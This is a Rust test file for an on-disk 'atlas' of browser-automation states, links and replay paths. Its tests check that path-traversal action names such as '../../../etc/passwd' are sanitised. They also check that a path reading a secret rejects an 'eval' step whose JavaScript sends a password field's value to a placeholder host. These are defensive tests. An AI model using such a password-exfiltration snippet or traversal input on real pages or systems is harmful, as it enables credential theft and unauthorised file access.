//! The atlas on disk: nodes, links, paths and todos, names that collide or attack, a broken atlas.

use std::path::Path;

use serde_json::json;

use super::links::safe_action_name;
use super::*;

fn state<'a>(id: &'a str, url: &'a str, run_id: &'a str) -> State<'a> {
    State {
        node_id: id,
        url,
        title: id,
        fingerprint: "fp",
        snapshot: "- main",
        screenshot: None,
        screenshot_left_out: None,
        run_id,
    }
}

fn node(a: &Atlas, id: &str) {
    a.ensure_state(&state(id, &format!("http://h/{id}"), "run1"))
        .unwrap();
}

#[test]
fn nodes_links_paths_and_todos() {
    let d = tempfile::tempdir().unwrap();
    let a = Atlas::open(d.path()).unwrap();
    let first = a
        .ensure_state(&state("00000000000000a1", "http://h/", "run1"))
        .unwrap();
    assert!(first.is_new);
    assert!(
        !a.ensure_state(&state("00000000000000a1", "http://h/", "run2"))
            .unwrap()
            .is_new
    );
    assert_eq!(
        a.meta("00000000000000a1").unwrap().run_ids,
        ["run1", "run2"]
    );
    node(&a, "00000000000000a2");
    node(&a, "00000000000000a3");
    a.set_entry("00000000000000a1", &[json!({"open": "http://h/"})])
        .unwrap();
    a.link_state(
        "00000000000000a1",
        "go to 2",
        "00000000000000a2",
        &[json!({"click": "#a"})],
    )
    .unwrap();
    a.link_state(
        "00000000000000a2",
        "go/to/3 ../../etc",
        "00000000000000a3",
        &[json!({"click": "#b"})],
    )
    .unwrap();
    a.link_state("00000000000000a1", "go to 2", "00000000000000a2", &[])
        .unwrap(); // same link: no-op
    assert!(matches!(
        a.link_state("00000000000000a1", "go to 2", "00000000000000a3", &[]),
        Err(AtlasError::LinkExists { .. })
    ));
    let path = a.path_to_node("00000000000000a3").unwrap();
    let actions: Vec<_> = path.iter().map(|p| p.action.clone()).collect();
    assert_eq!(
        actions,
        [
            Some("go to 2".into()),
            Some("go/to/3 ../../etc".into()),
            None
        ]
    );
    assert!(
        path[1]
            .script_path
            .as_ref()
            .unwrap()
            .starts_with(d.path().join("edges/00000000000000a2"))
    );
    assert_eq!(
        std::fs::read_link(d.path().join("nodes/00000000000000a1/links/go to 2")).unwrap(),
        Path::new("../../00000000000000a2")
    );
    a.manage_todos("00000000000000a1", Some(&[json!("a"), json!("b")]))
        .unwrap();
    assert_eq!(
        a.manage_todos("00000000000000a1", None).unwrap(),
        Some(json!("a"))
    );
    assert!(matches!(a.path_to_node("zz"), Err(AtlasError::NotFound(_))));
}

#[test]
fn actions_whose_safe_names_collide_get_their_own_links() {
    let d = tempfile::tempdir().unwrap();
    let a = Atlas::open(d.path()).unwrap();
    for id in ["00000000000000a1", "00000000000000a2", "00000000000000a3"] {
        node(&a, id);
    }
    a.link_state("00000000000000a1", "go a/b", "00000000000000a2", &[])
        .unwrap();
    a.link_state("00000000000000a1", "go a_b", "00000000000000a3", &[])
        .unwrap();
    let links = a.links("00000000000000a1").unwrap();
    let pairs: Vec<(&str, &str)> = links
        .iter()
        .map(|l| (l.action.as_str(), l.target.as_str()))
        .collect();
    assert_eq!(
        pairs,
        [
            ("go a/b", "00000000000000a2"),
            ("go a_b", "00000000000000a3")
        ]
    );
    // The same action again is still the same link.
    a.link_state("00000000000000a1", "go a_b", "00000000000000a3", &[])
        .unwrap();
    assert_eq!(a.links("00000000000000a1").unwrap().len(), 2);
}

#[test]
fn hostile_action_names_stay_inside_the_atlas() {
    for name in [
        "../../../etc/passwd",
        "a/b",
        "..",
        ".hidden",
        "nul\0byte",
        &"x".repeat(300),
    ] {
        let safe = safe_action_name(name);
        assert!(
            !safe.contains('/')
                && !safe.contains("..")
                && !safe.starts_with('.')
                && !safe.contains('\0'),
            "{safe}"
        );
        assert!(safe.len() <= 80);
    }
    assert_ne!(
        safe_action_name(&"x".repeat(300)),
        safe_action_name(&"x".repeat(301))
    );
}

#[test]
fn a_broken_atlas_is_an_error_not_a_panic() {
    let d = tempfile::tempdir().unwrap();
    let a = Atlas::open(d.path()).unwrap();
    node(&a, "00000000000000a1");
    std::fs::write(
        d.path().join("nodes/00000000000000a1/meta.json"),
        "{ not json",
    )
    .unwrap();
    assert!(matches!(
        a.meta("00000000000000a1"),
        Err(AtlasError::Broken { .. })
    ));
    std::fs::write(
        d.path().join("nodes/00000000000000a1/links/oops"),
        "a file, not a link",
    )
    .unwrap();
    assert!(matches!(
        a.links("00000000000000a1"),
        Err(AtlasError::Broken { .. })
    ));
}

#[test]
fn an_edge_flow_declares_every_secret_its_templates_read() {
    let steps = json!([
        { "fill": { "target": "#a", "value": "{{ secrets.PLAIN }}" } },
        { "fill": { "target": "#b", "value": "x{{ secrets.LOWER | lower }}" } },
        { "download": { "target": "#c", "path": "dl/{{ secrets.SLICE[2:8] }}.csv" } },
        { "fill": { "target": "#d", "value": "{{ secrets['QUOTED'] }}" } },
        { "fill": { "target": "#e", "value": "secrets.NOT_A_TEMPLATE" } },
    ]);
    assert_eq!(
        super::referenced_secrets(&steps),
        ["LOWER", "PLAIN", "QUOTED", "SLICE"]
    );
}

/// D2 (attack 27): the steps a replay runs are the whole path, edge after edge in one page: an
/// `eval` of one edge reads what an earlier edge (or the root's entry) typed, so a path that
/// reads a secret anywhere holds no page code anywhere.
#[test]
fn a_path_that_reads_a_secret_holds_no_page_code_on_any_of_its_edges() {
    let d = tempfile::tempdir().unwrap();
    let mut a = Atlas::open(d.path()).unwrap();
    a.reach.secrets = vec!["PW".into()];
    a.ensure_state(&state("00000000000000a1", "http://h/", "run1"))
        .unwrap();
    node(&a, "00000000000000a2");
    a.set_entry(
        "00000000000000a1",
        &[
            json!({"open": "http://h/"}),
            json!({"fill": {"target": "#pw", "value": "{{ secrets.PW }}"}}),
        ],
    )
    .unwrap();
    a.link_state(
        "00000000000000a1",
        "go",
        "00000000000000a2",
        &[json!({"eval": "new Image().src = '//x/?' + document.querySelector('#pw').value; 1"})],
    )
    .unwrap();
    let e = a
        .steps_by_state("00000000000000a2")
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("meta.json: step 2 (`fill`) reads the secret `PW`, and ")
            && e.contains("flow.yaml: step 1 (`eval`) runs code in the page"),
        "{e}"
    );
}
